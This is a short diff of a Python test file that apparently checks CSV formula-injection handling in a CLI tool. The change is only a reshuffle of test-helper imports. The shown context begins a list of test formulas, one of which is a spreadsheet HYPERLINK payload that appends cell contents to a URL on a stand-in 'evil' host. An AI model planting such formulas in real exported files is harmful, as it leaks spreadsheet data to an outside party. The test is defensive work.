@@ -16,8 +16,8 @@ from typer.testing import CliRunner
 
 from adyton.certify.csv_text import csv_text
 from adyton.transports.cli.app import app
-from browsing import Browsing
-from served import QUICK, served
+from support.servers import QUICK, served
+from support.web import Browsing
 
 FORMULAS = (
     '=HYPERLINK("http://evil/?"&A1,"click")',
